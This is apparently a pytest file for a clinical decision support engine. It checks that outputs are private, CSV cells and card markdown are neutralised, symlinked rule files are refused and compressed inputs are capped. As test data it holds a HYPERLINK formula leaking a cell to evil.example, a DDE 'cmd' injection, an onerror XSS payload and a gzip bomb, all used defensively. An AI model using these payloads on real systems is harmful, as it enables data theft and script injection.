"""Security issue 15, item 6 (red-team L2, L4, L7, L9, L10): files and output hygiene.

* database, spool, rejected rows and every batch output: 0600 files in 0700 directories, even
  under umask 022;
* ``report.html`` names input files by a hash, never by their path (Synthea file names are
  patient names); CSV cells starting with ``= + - @`` are neutralised (Parquet stays raw);
* free text from a request is escaped, never rendered, in card markdown;
* the rule loader refuses files that link outside the rules directory and never echoes content;
* compressed inputs are streamed with caps: a bomb is refused (100:1), an NDJSON line over the
  per-line cap is skipped and reported, the rest of the file is read.
"""

from __future__ import annotations

import gzip
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient
from tests.service_helpers import hook_request, medication_request

from cds_engine.batch.runner import ScreenOptions, run_screen
from cds_engine.engine import Engine
from cds_engine.rules.compile import load_pack
from cds_engine.rules.errors import PackLoadError
from cds_engine.service import create_app
from cds_engine.sources.compressed import InputTooLarge, capped_lines, open_text, read_bundle_bytes
from cds_engine.store import open_store
from cds_engine.store.spool import Spool
from cds_engine.vocabulary import Vocabulary
from conftest import RULES

AS_OF = "2026-01-15T12:00:00+00:00"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for lab results")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def loose_umask() -> Iterator[None]:
    old = os.umask(0o022)  # the red team's setting: files 644, directories 755 by default
    try:
        yield
    finally:
        os.umask(old)


# ── file modes ─────────────────────────────────────────────────────────────────────────────
def test_database_spool_and_rejected_rows_are_private(tmp_path: Path, loose_umask):
    store = open_store(f"sqlite:///{tmp_path}/cds.db", spool_dir=tmp_path / "spool", start_drainer=False)
    try:
        with store.session():
            pass
    finally:
        store.close()
    for name in ("cds.db", "cds.db-wal", "cds.db-shm"):
        if (tmp_path / name).exists():
            assert mode(tmp_path / name) == 0o600, name
    spool = Spool(tmp_path / "spool2")
    spool.append({"kind": "evaluation", "record": {"x": 1}})
    spool._reject({"kind": "evaluation", "record": {"x": 1}}, ValueError("bad"))
    spool.close()
    assert mode(tmp_path / "spool2") == 0o700
    files = list((tmp_path / "spool2").iterdir())
    assert files and all(mode(f) == 0o600 for f in files)
    assert any(f.name == "rejected.jsonl" for f in files)


def test_batch_outputs_are_private_csv_is_neutralised_and_the_report_shows_no_paths(
    tmp_path: Path, loose_umask
):
    inputs = tmp_path / "Ophelia_Zzyzx_Canary"  # a Synthea-style name: the patient's name
    inputs.mkdir()
    rows = [
        {"patient_id": FORMULA, "birth_date": "1950-01-01", "sex": "female", "egfr": "20"},
        {"patient_id": "+1+cmd|' /C calc'!A0", "birth_date": "1950-01-01", "sex": "female", "egfr": "20"},
        {"patient_id": "-safe-looking", "birth_date": "not-a-date", "sex": "female", "egfr": "20"},
    ]
    pl.DataFrame(rows).write_csv(inputs / "Ophelia_Zzyzx_Canary.csv")
    out = tmp_path / "out"
    run_screen(
        ScreenOptions(
            inputs=[inputs], out=out, rules=RULES, as_of=AS_OF, assume_order="baclofen 5 mg PO TID",
            progress=False,
        )
    )
    assert mode(out) == 0o700
    written = [p for p in out.iterdir() if p.is_file()]
    assert {p.name for p in written} >= {"alerts.csv", "alerts.parquet", "report.html", "errors.csv"}
    assert all(mode(p) == 0o600 for p in written), {p.name: oct(mode(p)) for p in written}
    cells = [c for row in pl.read_csv(out / "alerts.csv", infer_schema=False).iter_rows() for c in row if c]
    cells += [c for row in pl.read_csv(out / "errors.csv", infer_schema=False).iter_rows() for c in row if c]
    assert cells and not [c for c in cells if c[0] in "=+-@\t\r"]
    assert f"'{FORMULA}" in cells  # neutralised, not dropped
    assert FORMULA in pl.read_parquet(out / "alerts.parquet")["patient_id"].to_list()  # Parquet raw
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "Ophelia" not in report and "Zzyzx" not in report


# ── card markdown ──────────────────────────────────────────────────────────────────────────
def test_free_text_route_is_escaped_in_card_markdown(engine: Engine):
    hostile = "topical [Open the dosing policy](https://evil.example/phish) <img src=x onerror=alert(2)>"
    draft = medication_request(id="d1")
    draft["dosageInstruction"][0]["route"] = {"text": hostile}
    patient = {"resourceType": "Patient", "id": "p1", "birthDate": "1950-01-01", "gender": "female"}
    with TestClient(create_app(lambda: engine, auth=None)) as client:
        answer = client.post(
            "/cds-services/baclofen-order-sign",
            json=hook_request("order-sign", "p1", [draft], prefetch={"patient": patient}),
        )
    assert answer.status_code == 200
    text = json.dumps(answer.json())
    assert "](" not in text and "<img" not in text and "https://evil" not in text
    details = [c["detail"] for c in answer.json()["cards"] if "Open the dosing policy" in c.get("detail", "")]
    assert details, "the route text is shown (escaped) on the card that reads it"
    assert all("\\[Open the dosing policy\\]" in d for d in details), details


# ── rule files ─────────────────────────────────────────────────────────────────────────────
def test_rule_loader_refuses_a_symlink_out_of_the_rules_dir_and_echoes_nothing(tmp_path: Path):
    secret = tmp_path / "secret.yaml"
    shadow = "root:*:20228:0:99999:7:::\nbob:$6$saltsalt$hash:20228:0:99999:7:::\n"
    secret.write_text(shadow, encoding="utf-8")
    rules = tmp_path / "rules"
    (rules / "baclofen").mkdir(parents=True)
    (rules / "baclofen" / "pack.yaml").symlink_to(secret)
    vocab = Vocabulary.from_dir(RULES / "vocabulary")
    with pytest.raises(PackLoadError) as refused:
        load_pack(rules / "baclofen" / "pack.yaml", vocab)
    assert "outside the rules directory" in str(refused.value) and "20228" not in str(refused.value)
    # a regular pack file whose keys are someone's shadow file: the keys are not quoted back
    (rules / "baclofen" / "pack.yaml").unlink()
    (rules / "baclofen" / "pack.yaml").write_text(secret.read_text(encoding="utf-8"), encoding="utf-8")
    with pytest.raises(PackLoadError) as bad:
        load_pack(rules / "baclofen" / "pack.yaml", vocab)
    assert "20228" not in str(bad.value) and "$6$" not in str(bad.value)
    # the vocabulary too
    vocabulary = rules / "vocabulary"
    vocabulary.mkdir()
    (vocabulary / "codes.csv").symlink_to(secret)
    with pytest.raises(ValueError, match="outside the rules directory"):
        Vocabulary.from_dir(vocabulary)


# ── compressed inputs ──────────────────────────────────────────────────────────────────────
def test_a_gzip_bomb_is_refused_while_streaming(tmp_path: Path):
    bomb = tmp_path / "bomb.json.gz"
    with gzip.open(bomb, "wb") as fh:
        for _ in range(64):
            fh.write(b" " * (1 << 20))  # 64 MiB of whitespace, about 64 KiB compressed
    with pytest.raises(InputTooLarge):
        read_bundle_bytes(bomb)
    plain = tmp_path / "big.json"
    plain.write_bytes(b" " * 2048)
    with pytest.raises(InputTooLarge):
        read_bundle_bytes(plain, limit=1024)  # the decompressed cap also holds for plain files
    normal = tmp_path / "ok.json.gz"
    bundle = {"resourceType": "Bundle", "entry": [{"resource": {"resourceType": "Patient", "id": "p"}}]}
    normal.write_bytes(gzip.compress(json.dumps(bundle).encode()))
    assert json.loads(read_bundle_bytes(normal)) == bundle


def test_ndjson_lines_are_capped_one_by_one_not_in_total(tmp_path: Path):
    path = tmp_path / "Patient.ndjson.gz"
    good = [json.dumps({"resourceType": "Patient", "id": f"p{i}"}) for i in range(3)]
    path.write_bytes(gzip.compress(("\n".join([good[0], "x" * 5000, *good[1:]]) + "\n").encode()))
    with open_text(path) as fh:
        lines = list(capped_lines(fh, limit=1000))
    assert lines[1] is None and [json.loads(x) for x in lines if x] == [json.loads(g) for g in good]


def test_engine_refuses_a_linked_pack_file_before_reading_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """``Engine.from_dir`` reads each pack file once for the site parameters: the link check comes first,
    so a pack file linked out of the rules directory is never opened (not only never echoed)."""
    import shutil

    from cds_engine.engine import Engine

    secret = tmp_path / "secret.yaml"
    secret.write_text("parameters:\n  root_20228: {value: 1}\n", encoding="utf-8")
    rules = tmp_path / "rules"
    shutil.copytree(RULES, rules)
    (rules / "gabapentinoid" / "pack.yaml").unlink()
    (rules / "gabapentinoid" / "pack.yaml").symlink_to(secret)
    opened: list[Path] = []
    real_read_text, real_read_bytes = Path.read_text, Path.read_bytes

    def read_text(self: Path, *args, **kwargs):  # type: ignore[no-untyped-def]
        opened.append(self.resolve())
        return real_read_text(self, *args, **kwargs)

    def read_bytes(self: Path):  # type: ignore[no-untyped-def]
        opened.append(self.resolve())
        return real_read_bytes(self)

    monkeypatch.setattr(Path, "read_text", read_text)
    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    with pytest.raises(PackLoadError) as refused:
        Engine.from_dir(rules, evaluator="oracle")
    assert "outside the rules directory" in str(refused.value) and "20228" not in str(refused.value)
    assert secret.resolve() not in opened
    assert any(p.name == "pack.yaml" for p in opened)  # the other pack was read (the check is per file)
